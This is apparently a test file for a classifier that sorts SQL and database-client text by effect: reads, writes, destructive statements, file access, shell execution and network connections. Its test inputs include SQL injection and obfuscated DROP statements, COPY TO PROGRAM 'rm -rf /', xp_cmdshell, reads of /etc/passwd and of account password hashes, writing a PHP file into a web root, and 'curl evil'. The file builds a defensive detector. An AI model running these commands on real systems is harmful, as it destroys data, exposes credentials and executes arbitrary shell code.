// Shows what SQL is found to do. A real SQLite judges the judge: a text that only reads leaves the data as it was.

import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Database } from '../../../src/store/sqlite/driver.js'
import { brief } from './brief.ts'

const READ = 'database.read'
const WRITE = 'database.write'
const RUNS = 'execution.inline-code'
const destroys = (name?: string) => (name === undefined ? 'database.destroy' : `database.destroy ${name}`)

describe('a text that only reads is found to read', () => {
  test.each([
    'SELECT 1',
    "SELECT * FROM t WHERE a = 'DROP TABLE x; -- ' LIMIT 10;",
    "select count(*), max(x), coalesce(y, '') from generate_series(1,3) as g(x) group by 1",
    'WITH a AS (SELECT 1), b(x) AS (SELECT 2) SELECT * FROM a, b',
    "SELECT a->>'b', x::int, x #> '{a}' FROM t FOR UPDATE",
    "SELECT E'it\\'s; DROP TABLE x'",
    'SELECT $tag$ quoted $tag$ AS x',
    'SELECT "delete from x" FROM t -- DROP TABLE y',
    '/* DROP TABLE x */ SELECT 1',
    '(SELECT 1) UNION (SELECT 2)',
    'EXPLAIN DELETE FROM t',
    'SHOW TABLES; DESCRIBE users; USE shop',
    'PRAGMA table_info(users); PRAGMA journal_mode',
    'TABLE t; VALUES (1)',
    'COPY (SELECT * FROM t) TO STDOUT',
    '\\dt',
    '\\d+ users',
    '\\x on \\timing',
    '\\copy t to stdout',
    '\\pset pager off',
    'SELECT 1\\G',
    '.tables',
    '.mode csv\nSELECT 1;',
    '.schema users',
    'SELECT arr[1] FROM t',
    'BEGIN IMMEDIATE; SELECT 1; COMMIT',
    'SET NAMES utf8; SHOW CREATE TABLE t',
    "SELECT extract(day FROM '2020-01-01'), a IS DISTINCT FROM 'x', f.backup AS kill FROM f",
    "SELECT pg_size_pretty(pg_database_size('x'))",
  ])('%j', (text) => expect(brief('sql', text)).toEqual([READ]))
})

test('a text that shows the passwords of accounts shows a secret', () => {
  expect(brief('sql', 'SELECT * FROM mysql.user')).toEqual(['secret.read passwords of accounts', READ])
  expect(brief('sql', 'select user, authentication_string from `mysql`.`user`')).toContain(
    'secret.read passwords of accounts',
  )
  expect(brief('sql', 'SELECT name, password_hash FROM sys.sql_logins')).toContain('secret.read passwords of accounts')
  expect(brief('sql', 'SELECT user, host FROM mysql.user')).toEqual([READ])
  expect(brief('sql', 'SELECT * FROM app.user')).toEqual([READ])
})

test('a text without statements does nothing', () => expect(brief('sql', ' -- just a note\n;;')).toEqual([]))

describe('changes and destruction are found', () => {
  test.each<[string, string[]]>([
    ['INSERT INTO t VALUES (1)', [WRITE]],
    ['INSERT INTO t VALUES (1) ON CONFLICT DO UPDATE SET a=1', [WRITE]],
    ['UPDATE t SET a=1 WHERE id=2', [WRITE]],
    ['UPDATE t SET a=1', [destroys('t'), WRITE]],
    ['UPDATE t SET a=1 WHERE 1=1', [destroys('t'), WRITE]],
    ['UPDATE t SET a=1 WHERE true', [destroys('t'), WRITE]],
    ['UPDATE t SET a=(SELECT 1 WHERE b=2)', [destroys('t'), WRITE]],
    ['DELETE FROM t WHERE id=1', [destroys('t'), WRITE]],
    ['delete from only public.t', [destroys('public.t'), WRITE]],
    ['DROP TABLE IF EXISTS "users"', [destroys('users'), WRITE]],
    ['DROP DATABASE shop', [destroys('shop'), WRITE]],
    ['DROP TEMPORARY TABLE IF EXISTS picks', [WRITE]],
    ['INSERT OVERWRITE INTO orders SELECT * FROM picks', [destroys('orders'), WRITE]],
    ['INSERT OVERWRITE TABLE orders SELECT 1', [destroys('orders'), WRITE]],
    ['ALTER TABLE orders CLEAR COLUMN note', [destroys('note'), WRITE]],
    ["ALTER TABLE orders REPLACE PARTITION '2024' FROM picks", [destroys('2024'), WRITE]],
    ['TRUNCATE t', [destroys('t'), WRITE]],
    ['/*!50000 DROP */ TABLE users', [READ, destroys('users'), WRITE]],
    ['D/**/ROP TABLE x', ['unknown']],
    ['SELECT 1; dRoP tAbLe x', [READ, destroys('x'), WRITE]],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', [destroys('t'), READ]],
    ['WITH d AS (UPDATE t SET a=1 RETURNING *) SELECT * FROM d WHERE a=1', [destroys('t'), WRITE]],
    ['EXPLAIN ANALYZE DELETE FROM t', [READ, destroys('t'), WRITE]],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a=1 WHERE b=2', [READ, WRITE]],
    ['ALTER TABLE t DROP COLUMN a', [destroys('a'), WRITE]],
    ['ALTER TABLE t ALTER COLUMN a DROP NOT NULL', [WRITE]],
    ['ALTER TABLE t DROP CONSTRAINT c', [WRITE]],
    ['CREATE TRIGGER x AFTER DELETE ON t BEGIN DELETE FROM u; END;', [destroys('u'), READ, WRITE]],
    ["DO $$ BEGIN EXECUTE 'DR'||'OP TABLE x'; END $$", [destroys('x'), WRITE].reverse()],
    ['SELECT 1 DROP TABLE x', [destroys('x'), READ]],
    ['SELECT * INTO copy FROM t', [WRITE]],
    ['PRAGMA journal_mode=WAL', [WRITE]],
    ['PRAGMA page_size(512)', [WRITE]],
    ['FLUSHALL', [destroys(), WRITE]],
    ['GRANT SELECT, UPDATE ON t TO u', [WRITE]],
    ['SELECT 1 INSERT t VALUES (1)', [WRITE]],
    ['SELECT 1 DELETE t WHERE a = 1', [destroys('t'), READ]],
    ['USE shop ALTER TABLE t ADD b int', [WRITE]],
    ['SELECT 1 SHUTDOWN', [WRITE]],
    ['GRANT SELECT, DELETE ON t TO u', [WRITE]],
    ['DROP INDEX i', [WRITE]],
    ['DROP VIEW v CASCADE', [destroys('v'), WRITE]],
    ['SET ROLE x', [WRITE]],
    ["SELECT setval('s', 1)", [WRITE, READ]],
    // In MySQL the backslash escapes the quote, in PostgreSQL it does not: then the DROP runs.
    ["SELECT 'a\\'; DROP TABLE x; -- '", [READ, destroys('x'), WRITE]],
    ['SELECT 1\\G DROP TABLE x', [READ, destroys('x'), WRITE]],
    ['SELECT 1 --1; DROP TABLE x', [READ, destroys('x'), WRITE]],
  ])('%j', (text, expected) => expect(brief('sql', text).toSorted()).toEqual(expected.toSorted()))
})

describe('files, programs and the network behind SQL are found', () => {
  test.each<[string, string[]]>([
    ["COPY t TO PROGRAM 'rm -rf /'", [RUNS, 'shell: rm -rf /', WRITE]],
    ["COPY t FROM PROGRAM 'curl x'", [RUNS, 'shell: curl x', WRITE]],
    ["COPY t TO E'/etc/x'", ['file.write /etc/x', WRITE]],
    ["COPY t FROM '/etc/passwd'", ['file.read /etc/passwd', WRITE]],
    ["SELECT * INTO OUTFILE '/var/www/x.php' FROM t", ['file.write /var/www/x.php', WRITE]],
    ["SELECT pg_read_file('/etc/passwd')", ['file.read /etc/passwd', READ]],
    ['SELECT "pg_read_file"(\'/etc/passwd\')', ['file.read /etc/passwd', READ]],
    ['SELECT pg_catalog.pg_read_binary_file(x)', ['file.read', 'unknown', READ]],
    ['SELECT * FROM \'a.csv\' JOIN "b/c.csv" ON true', ['file.read a.csv', 'file.read b/c.csv', READ]],
    ["SELECT * FROM t, 'a.csv' WHERE b IN ('x', 'y')", ['file.read a.csv', READ]],
    ["SELECT * FROM 'https://example.com/a.csv'", ['network.read https://example.com/a.csv', READ]],
    ["SELECT * FROM read_csv('/etc/passwd')", ['file.read /etc/passwd', READ]],
    ["SELECT load_file('/etc/passwd')", ['file.read /etc/passwd', READ]],
    ["SELECT writefile('x', 'y')", ['file.write x', READ]],
    ["SELECT load_extension('x.so')", [RUNS, 'unknown', READ]],
    ["EXEC xp_cmdshell 'rm -rf /'", [RUNS, 'shell: rm -rf /', WRITE]],
    ["SELECT sys_exec('id')", [RUNS, 'shell: id', READ]],
    ["SELECT dblink('host=evil', 'SELECT 1')", ['network.connect', WRITE, 'sql: host=evil', READ]],
    ["SELECT query_to_xml('DELETE FROM t', true, true, '')", [WRITE, 'sql: DELETE FROM t', READ]],
    ['SELECT pg_terminate_backend(1)', ['process.signal', WRITE, READ]],
    ["VACUUM INTO 'x.db'", ['file.write x.db', WRITE]],
    ["LOAD DATA INFILE '/etc/passwd' INTO TABLE t", ['file.read /etc/passwd', WRITE]],
    ["LOAD 'x.so'", [WRITE, RUNS]],
    ["CREATE FUNCTION f() RETURNS int AS 'x.so', 'f' LANGUAGE C", [WRITE, RUNS]],
    ["ALTER SYSTEM SET archive_command = 'x'", [WRITE, 'system.configure']],
  ])('%j', (text, expected) => expect(brief('sql', text).toSorted()).toEqual(expected.toSorted()))
})

describe('commands of the clients are found', () => {
  test.each<[string, string[]]>([
    ['\\! rm -rf /', [RUNS, 'shell: rm -rf /']],
    ['\\!rm -rf /', [RUNS, 'shell: rm -rf /']],
    ['SELECT 1 \\g |cat', [READ, RUNS, 'shell: cat', 'unknown']],
    ['\\o |cat', [RUNS, 'shell: cat']],
    ['\\o out.txt', ['file.write out.txt']],
    ['\\i x.sql', ['execution.script x.sql']],
    ["\\copy t to program 'curl evil'", [RUNS, 'shell: curl evil']],
    ["\\copy t to '/tmp/x.csv' with csv header", ['file.write /tmp/x.csv', READ]],
    ['\\copy t from x.csv csv', ['file.read x.csv', WRITE]],
    ['\\copy (delete from t returning *) to stdout', ['sql: delete from t returning *', READ]],
    ['\\echo `rm -rf /`', [RUNS, 'shell: rm -rf /', READ]],
    ['\\x \\! ls', [READ, RUNS, 'shell: ls']],
    ['.shell rm -rf /', [RUNS, 'shell: rm -rf /']],
    ['.sh ls', [RUNS, 'shell: ls']],
    ['.system ls', [RUNS, 'shell: ls']],
    [".output '|cat'", [RUNS, 'shell: cat']],
    ['.output out.txt', ['file.write out.txt']],
    ['.read x.sql', ['execution.script x.sql']],
    ['.once -x', ['execution.interactive']],
    ['.once on', ['file.write on']],
    ['.output off', ['database.read']],
    ['.output stdout', ['database.read']],
    ['.output stderr', ['database.read']],
    ['SELECT 1\n!! id', [READ, RUNS, 'shell:  id']],
    ['.import a.csv t', ['file.read a.csv', WRITE]],
    ['.backup b.db', ['file.write b.db']],
    ['.restore b.db', [destroys()]],
    ['.load ./x', [RUNS, 'unknown']],
    ['system rm -rf /', ['unknown', RUNS, 'shell: rm -rf /']],
  ])('%j', (text, expected) => {
    const found = brief('sql', text)
    expect([...new Set(found)].toSorted()).toEqual(expected.toSorted())
  })
})

describe('what is not known is never only reading', () => {
  test.each([
    'bogus',
    "SELECT 'open",
    'SELECT evil(1)',
    'SELECT 1 + evil(1) AS y',
    'SELECT DISTINCT ON (a) evil() FROM t',
    'SELECT * FROM x, evil() AS (c int)',
    "SELECT public.lower('x')",
    'SELECT U&"\\0070g_read_file"(\'x\')',
    'EXPLAIN ANALYZE (SELECT evil())',
    'SELECT :x',
    "SELECT :'x'",
    '\\gexec',
    "\\set x 'DROP TABLE y'",
    '\\x \\\\ DROP TABLE x',
    '\\unheardof',
    '.unheardof',
    'SELECT 1\n/\n.shell id',
    'DELIMITER //',
    '-- note\r DROP TABLE x',
    "SELECT * FROM '*.csv'",
  ])('%j', (text) => expect(brief('sql', text)).toContain('unknown'))
})

test('a text that is found to read leaves a real database as it was', () => {
  const pieces = [
    'SELECT ',
    '1',
    "'a'",
    "'",
    '"a"',
    ' FROM t',
    ';',
    '--',
    '\n',
    '/*',
    '*/',
    'DELETE FROM t',
    'UPDATE t SET a=2',
    'DROP TABLE t',
    '(',
    ')',
    'WITH x AS ',
    'EXPLAIN ',
    '[',
    ']',
    '`',
    '\\',
    '#',
    ' WHERE 1',
    'INSERT INTO t VALUES(3)',
    ' UNION ',
    'PRAGMA ',
    'user_version',
    '=',
    'REPLACE INTO t VALUES(1)',
  ]
  const count = { reads: 0, changes: 0 }
  const db = new Database(':memory:')
  const reset = () =>
    db.exec('DROP TABLE IF EXISTS t; CREATE TABLE t(a); INSERT INTO t VALUES (1); PRAGMA user_version = 0')
  const state = () => {
    try {
      return JSON.stringify([
        db.prepare('SELECT * FROM t').all(),
        db.pragma('user_version'),
        db.prepare('SELECT name FROM sqlite_schema').all(),
      ])
    } catch (error) {
      return String(error)
    }
  }
  reset()
  const before = state()
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 8 }), (parts) => {
      const text = parts.join('')
      const onlyReads = brief('sql', text).every((line) => line === READ)
      try {
        db.exec(text)
      } catch {
        // Refused: what ran before the refused statement still counts.
      }
      const after = state()
      if (onlyReads) {
        count.reads++
        expect(after, text).toBe(before)
      } else if (after !== before) {
        count.changes++
        reset()
      }
    }),
    { numRuns: 6000, seed: 3 },
  )
  expect(count.reads).toBeGreaterThan(100)
  expect(count.changes).toBeGreaterThan(100)
})
